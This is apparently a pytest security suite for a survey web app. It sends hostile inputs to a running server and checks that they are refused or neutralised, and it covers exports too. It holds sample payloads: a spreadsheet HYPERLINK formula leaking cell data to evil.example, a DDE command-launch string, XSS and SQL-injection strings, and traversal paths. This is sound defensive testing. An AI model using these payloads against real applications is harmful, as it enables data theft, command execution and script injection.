"""What hostile people send to a running server: addresses, answers, tokens, words, other pages.

All by real requests. Nothing breaks, nothing is stored that should not be, and what people write
leaves as the plain text that it is.
"""

import csv
import http.client
import io
import json
import shutil
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path
from random import Random
from urllib.parse import parse_qs, quote, urlsplit

import pytest
import sqlalchemy as sa
import yaml
from survey_clients import Line, Served, run
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from db import schema
from db.store import Store
from study_app import export, trials
from study_app.participation import session
from study_app.trials import Person

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1+1", "\r\n=1+1", "|cmd|' /C calc'!A0",
    "<script>alert(1)</script>", "</textarea></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)",
    '"; DROP TABLE response; --', "{{7*7}} ${7*7} %s %00", "a\0b", "\u202eevil", "🧨" * 40,
    ":red[x]",
)  # fmt: skip
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
CONSENT = "Would you like to take part?"


@pytest.fixture(scope="module")
def place(every_trial_type, tmp_path_factory) -> Path:
    """A panel's study: one question by picking, then texts; its folder."""
    folder = tmp_path_factory.mktemp("abuse") / "study"
    shutil.copytree(every_trial_type, folder)
    file = folder / "study.yaml"
    data = yaml.safe_load(file.read_text("utf-8"))
    picked = next(block for block in data["blocks"] if block["trial"] == "pick_one")
    data["blocks"] = [
        {**picked, "items": 1, "attention": 0},
        {"trial": "free_text", "items": 4, "prompt": "What do you see?", "most": 500},
    ]
    data |= {"analysis": [], "quality": {"min_ms": 300, "attention": 0}}
    data["recruitment"] = {
        "source": "panel",
        "parameters": {"id": "PID", "session": "SID"},
        "codes": {"complete": "https://panel.example/done?who={id}"},
    }
    file.write_text(yaml.safe_dump(data, sort_keys=False), "utf-8")
    return folder


@pytest.fixture(scope="module")
def server(place) -> Iterator[Served]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    served = Served.survey(place, f"sqlite:///{place}/whyface.db", port)
    served.start()
    yield served
    served.stop()


@pytest.fixture
def store(server, place) -> Iterator[Store]:
    """The server's database, as another process sees it."""
    with Store(place / "whyface.db") as opened:
        yield opened


def ask(
    server: Served, path: str, body: object = None, **headers: str
) -> tuple[int, bytes, dict[str, str]]:
    """One request: status, body and headers. A body that is no bytes is sent as JSON."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    given = {name.replace("_", "-"): value for name, value in headers.items()}
    if body is None:
        connection.request("GET", path, headers=given)
    else:
        sent = body if isinstance(body, bytes) else json.dumps(body).encode()
        connection.request("POST", path, sent, {"Content-Type": "application/json", **given})
    reply = connection.getresponse()
    told = reply.status, reply.read(), {name.lower(): text for name, text in reply.getheaders()}
    connection.close()
    return told


def newcomer(server: Served, query: str = "") -> str:
    """A token from the server itself."""
    status, _, headers = ask(server, f"/?{query}")
    assert status == 303
    return parse_qs(urlsplit(headers["location"]).query)["p"][0]


async def _page(server: Served, query: str) -> tuple[str, list]:
    line = Line(server.port, query.removeprefix("p="))
    await line.open()
    await line.close()
    titles = [one.body for one in line.all("heading") if one.tag == "h1"]
    first = line.all("markdown")[0].body.partition("\n")[0].removeprefix("# ")
    return (titles or [first])[0], line.elements


def page(server: Served, query: str) -> str:
    """The main heading of what this address shows, by Streamlit's own protocol."""
    return run(_page(server, query))[0]


def shown(server: Served, query: str) -> str:
    """All that this address shows."""
    return "\n".join(str(element) for element in run(_page(server, query))[1])


def comes(store: Store, server: Served, pid: str = "", sid: str = "s") -> str:
    """Somebody straight before the first question; their token."""
    from study_app.participation.arrival import NOBODY, Arrival

    token, version = newcomer(server), store.versions()[0]["hash"]
    session.join(store, version, "live", token, Arrival(pid, sid) if pid else NOBODY)
    asked = session.state(store, token).study.background
    given = {question["id"]: next(iter(question["choices"])) for question in asked}
    assert session.save_background(store, token, given) == {}
    session.finish_instructions(store, token)
    return token


def answer(store: Store, token: str, text: str = "eyes and mouth") -> dict:
    """What a browser would send for the question where this participant is."""
    here = session.state(store, token)
    sent = trials.load(here.trial.type).simulate(here.asked, Person({}, rng=Random(1)))
    if "texts" in sent:
        sent["texts"] = [text]
    return {"participant": token, "trial": here.trial.token, "answer": sent, "rt_ms": 900.0}


def rows(store: Store) -> list[int]:
    """How many rows each table has, but for the server's own settings."""
    tables = [table for table in schema.metadata.sorted_tables if table is not schema.setting]
    with store.reading() as connection:
        counts = [sa.select(sa.func.count()).select_from(table) for table in tables]
        return [connection.execute(count).scalar() for count in counts]


# Addresses


@pytest.mark.parametrize(
    "query",
    [
        f"PID={'x' * 30_000}", "PID=%3Cscript%3Ealert(1)%3C/script%3E", "PID=%00", "PID=a%0d%0ab",
        "PID=%F0%9F%A7%A8", "PID=%FF%FE", "PID=ann&PID=bob", "PID=", "PID[]=ann",
        "PID={{%25PROLIFIC_PID%25}}", "%3Cscript%3E=1", "a=1&" * 400,
    ],
    ids=lambda query: query[:20],
)  # fmt: skip
def test_a_strange_id_lets_nobody_in_and_is_shown_nowhere(server, store, query):
    before = rows(store)
    status, _, headers = ask(server, f"/?{query}")
    assert status == 303 and headers["location"].startswith("?"), "to this server, nowhere else"
    token = parse_qs(urlsplit(headers["location"]).query)["p"][0]
    assert page(server, f"p={token}&{query}") == "This link is not complete"
    assert "script>" not in shown(server, f"p={token}&{query}")
    assert rows(store) == before


@pytest.mark.parametrize(
    "query",
    ["lang=%3Cscript%3E", "lang=%00", f"lang={'en-' * 9000}", "lang=fa", "theme=dark",
     "embed=true&embed_options=show_toolbar"],
    ids=lambda query: query[:20],
)  # fmt: skip
def test_other_parameters_change_nothing(server, query):
    assert page(server, f"p={newcomer(server)}&PID=ann&{query}") == CONSENT


@pytest.mark.parametrize(
    "token",
    ["", "%00", "A" * 30_000, "{}%00", "{}x", "x{}", "{}&p=x", "x&p={}", "%3Cscript%3E", "..%2F..",
     "🧨", "{}%0d%0aSet-Cookie:a=b"],
    ids=lambda token: ascii(token)[:20],
)  # fmt: skip
def test_a_token_that_nobody_gave_out_leads_nowhere(server, store, token):
    before = rows(store)
    query = quote("p=" + token.format(newcomer(server)), safe="=&%")
    assert ask(server, f"/?{query}&PID=ann")[0] == 200
    assert page(server, f"{query}&PID=ann") == "This link is not valid"
    assert rows(store) == before


@pytest.mark.parametrize(
    ("path", "status"),
    [
        (f"/?PID={'x' * 70_000}", 400), ("//evil.example/", 400), ("/stimuli/../whyface.db", 400),
        ("/stimuli/%2e%2e%2fstudy.yaml", 400), ("/stimuli/..%5cstudy.yaml", 400),
        (f"/stimuli/{'0' * 64}.png", 404), ("/stimuli/manifest.json", 200),
        ("/_stcore/upload_file/a/b", 404), ("/_stcore/metrics", 404), ("/component/a/b", 404),
        ("/media/a.png", 404),
    ],
)  # fmt: skip
def test_paths_lead_to_pages_and_pictures_alone(server, path, status):
    found, body, _ = ask(server, path)
    assert found == status
    assert not any(word in body for word in (b"SQLite", b"blocks:", b"sha256"))


# Other pages, other people


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1:1"}, 403),
        ({"Sec_Fetch_Site": "cross-site"}, 403),
        ({"Sec_Fetch_Site": "same-site"}, 403),
        ({"Content_Type": "text/plain"}, 415),
        ({"Content_Type": "application/x-www-form-urlencoded"}, 415),
    ],
)
def test_answers_from_other_pages_are_refused(server, store, headers, status):
    body = answer(store, comes(store, server))
    before = rows(store)
    found, told, _ = ask(server, "/answer", body, **headers)
    assert found == status and set(json.loads(told)) == {"refused"}
    assert rows(store) == before
    assert ask(server, "/answer", body)[0] == 200, "the person themselves can answer"


def test_no_other_page_can_open_the_connection(server):
    async def tried() -> int:
        try:
            await connect(
                f"ws://127.0.0.1:{server.port}/_stcore/stream", origin="https://evil.example"
            )
        except InvalidStatus as error:
            return error.response.status_code
        return 101

    assert run(tried()) == 403


@pytest.mark.parametrize(
    "body",
    [b"", b"[]", b"null", b"[" * 60_000, b"\xff\xfe", b'{"participant": 1e999}', b"{" * 200_000,
     b'{"participant": "a"}', b'{"participant": ["a"], "trial": {}}'],
    ids=lambda body: ascii(body)[:24],
)  # fmt: skip
def test_what_is_no_answer_is_refused(server, store, body):
    before = rows(store)
    status, told, _ = ask(server, "/answer", body)
    assert status in (400, 403, 413) and set(json.loads(told)) == {"refused"}
    assert rows(store) == before


def test_nobody_answers_for_somebody_else(server, store):
    ann, bob = comes(store, server), comes(store, server)
    theirs = answer(store, bob)
    before = rows(store)
    for participant in (ann, ann[:-1] + ("0" if ann[-1] != "0" else "1"), theirs["trial"]):
        status, _, _ = ask(server, "/answer", {**theirs, "participant": participant})
        assert status in (403, 422)
    assert rows(store) == before
    assert ask(server, "/answer", theirs)[0] == 200


def test_the_end_opens_to_the_person_alone_and_gives_nothing_twice(server, store):
    token = comes(store, server, "ann", "secret-session")
    while session.state(store, token).trial:
        last = answer(store, token)
        status, told, _ = ask(server, "/answer", last)
        assert status == 200
    assert json.loads(told) == {"page": "debriefing"}
    before, code = rows(store), store.assignment(token)["completion_code"]
    for changed in ({}, {"answer": {"texts": ["another"]}}, {"trial": "nothing"}):
        status, told, _ = ask(server, "/answer", {**last, **changed})
        assert (status, json.loads(told)) == (200, {"page": "debriefing"}) or status == 422
    assert rows(store) == before and store.assignment(token)["completion_code"] == code
    mine = "https://panel.example/done?who=ann"
    theirs = f"p={token}&PID=ann&SID=secret-session"
    assert mine in shown(server, theirs) and mine in shown(server, theirs), "a reload is the same"
    # The panel's address is worth money: only the id that joined gets into it.
    assert "panel.example" not in shown(server, f"p={token}&PID=bob&SID=secret-session")
    assert "who=%3C" not in shown(server, f"p={token}&PID=%3Cscript%3E")
    guessed = f"p={newcomer(server)}&PID=ann&SID=guessed"
    assert page(server, guessed) == "You have been here before"
    assert mine not in shown(server, guessed) and code not in shown(server, guessed)
    assert rows(store) == before


# Words


@pytest.fixture(scope="module")
def told(server, place) -> dict[str, str]:
    """What hostile people wrote → what the database keeps."""
    kept = {}
    with Store(place / "whyface.db") as store:
        for n, text in enumerate(TEXTS):
            token = comes(store, server, f"writer-{n}")
            while (here := session.state(store, token)).trial:
                status, reply, _ = ask(server, "/answer", answer(store, token, text))
                assert status == 200, reply
            assert here.page == session.Page.DEBRIEFING
            person = store.assignment(token)["participant"]
            found = {
                row["text"] for row in store.responses().dicts() if row["participant"] == person
            }
            (kept[text],) = found - {None}
    return kept


def test_words_are_kept_as_they_were_written(told):
    for text, kept in told.items():
        assert kept == text.replace("\0", "").strip()


@pytest.mark.parametrize("form", export.forms())
def test_no_file_holds_a_formula_and_every_word_is_there(form, told, store, tmp_path):
    export.export(store, tmp_path / form, form=form)
    cells = []
    for path in (tmp_path / form).rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULAS) or cell.lstrip("+-").replace(".", "").isdigit(), cell
    if form == "parquet":
        import pyarrow.parquet as parquet

        cells = parquet.read_table(tmp_path / form / "responses.parquet")["text"].to_pylist()
    assert set(told.values()) <= {(cell or "").removeprefix("'") for cell in cells}


def test_the_dashboard_shows_and_gives_away_no_markup_and_no_formula(told, store, place):
    from study_app.dashboard import board, data, download
    from study_app.dashboard.board import Board

    board.use(Board(store, place / "stimuli", "scrypt$of$a$password"))
    look = data.look(store.versions()[0]["hash"], "live")
    for name in download.FILES:
        content = download.content(look, name)
        files = {name: content}
        if name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(content)) as packed:
                files = {one: packed.read(one) for one in packed.namelist()}
        for inner, raw in files.items():
            if inner.endswith(".csv"):
                for row in csv.reader(io.StringIO(raw.decode())):
                    for cell in row:
                        number = cell.lstrip("+-").replace(".", "").replace("e-", "").isdigit()
                        assert number or not cell.startswith(FORMULAS), (name, inner, cell)
            elif inner.endswith((".html", ".svg", ".md")):
                for evil in ("<script>alert", "<img src=x", 'href="javascript', "(javascript:"):
                    assert evil not in raw.decode(), (name, inner, evil)
